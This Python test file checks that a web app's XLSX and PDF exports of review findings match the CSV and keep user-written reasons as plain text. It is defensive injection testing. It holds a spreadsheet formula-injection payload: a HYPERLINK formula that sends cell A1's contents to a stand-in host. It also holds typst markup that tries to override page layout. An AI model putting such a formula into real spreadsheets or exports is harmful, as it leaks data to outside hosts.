"""The findings of a draft and of a published version as XLSX and PDF, read back: the same rows
as the CSV, text that stays text (a reason written as a formula, or as typst markup, comes back
as the characters typed)."""
from __future__ import annotations

import csv
import io

import openpyxl
import pypdfium2

from tests.web.test_workflow import blocking_ids, explain
from tests.web.workflow_fixtures import SEED_BYTES, app_for, bureau, draft_id_of, login, upload, wf_url  # noqa: F401

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点这里")'
MARKUP = '#set page(paper: "a7") *粗体* $x^2$ @ref <label> `raw`'


def csv_rows(client, url: str) -> list[list[str]]:
    """The CSV's rows with csvsafe's leading quote taken off: the XLSX needs none (its cells are
    typed text), so both then hold the same strings."""
    rows = csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig")))
    return [[v[1:] if v.startswith("'=") else v for v in row] for row in rows]


def xlsx_rows(content: bytes) -> tuple[list[list[str]], list]:
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    rows = [["" if v is None else v for v in row] for row in ws.iter_rows(min_row=2, values_only=True)]
    return rows, cells


def pdf_text(content: bytes) -> str:
    document = pypdfium2.PdfDocument(content)
    try:
        return "\n".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
    finally:
        document.close()


def test_findings_as_xlsx_and_pdf(bureau):
    app = app_for(bureau)
    pub, rev = login(app, "pub"), login(app, "rev")
    draft = draft_id_of(upload(pub, ("budget.yaml", SEED_BYTES)))
    bureau.work()
    page = rev.get(f"/drafts/{draft}").text
    assert f'href="/drafts/{draft}/findings.xlsx"' in page and f'href="/drafts/{draft}/findings.pdf"' in page
    first, second, *rest = blocking_ids(page)
    explain(rev, draft, first, FORMULA)
    explain(rev, draft, second, MARKUP)
    for finding in rest:
        explain(rev, draft, finding)

    expected = csv_rows(rev, f"/drafts/{draft}/findings.csv")
    response = rev.get(f"/drafts/{draft}/findings.xlsx")
    assert response.status_code == 200 and "spreadsheetml" in response.headers["content-type"]
    rows, cells = xlsx_rows(response.content)
    assert rows == expected  # the CSV's rows, cell for cell
    formula_cells = [c for c in cells if c.value == FORMULA]
    assert formula_cells and all(c.data_type == "s" for c in cells if c.value is not None)
    assert rev.get(f"/drafts/{draft}/findings.xlsx").content == response.content  # same findings, same bytes

    response = rev.get(f"/drafts/{draft}/findings.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    flat = "".join(text.split())  # table cells wrap: compare without the line breaks
    assert "检查结果" in flat and "P.cost" in flat
    assert "".join(MARKUP.split()) in flat  # typst markup printed as typed, not obeyed
    assert "".join(FORMULA.split()) in flat
    assert pypdfium2.PdfDocument(response.content)[0].get_size()[0] > 800  # landscape A4, not the "a7" asked

    # Another unit's publisher, or nobody, gets nothing; an unknown format is a 404.
    assert login(app, "pub2").get(f"/drafts/{draft}/findings.pdf").status_code == 404
    assert rev.get(f"/drafts/{draft}/findings.doc").status_code == 404

    # The published version's findings export the same way, explanations included.
    location = rev.post(f"/drafts/{draft}/publish", data={"csrf": rev.csrf}).headers["location"]
    rows, _ = xlsx_rows(pub.get(location + "/findings.xlsx").content)
    assert rows == csv_rows(pub, location + "/findings.csv")
    assert "".join(MARKUP.split()) in "".join(pdf_text(pub.get(location + "/findings.pdf").content).split())
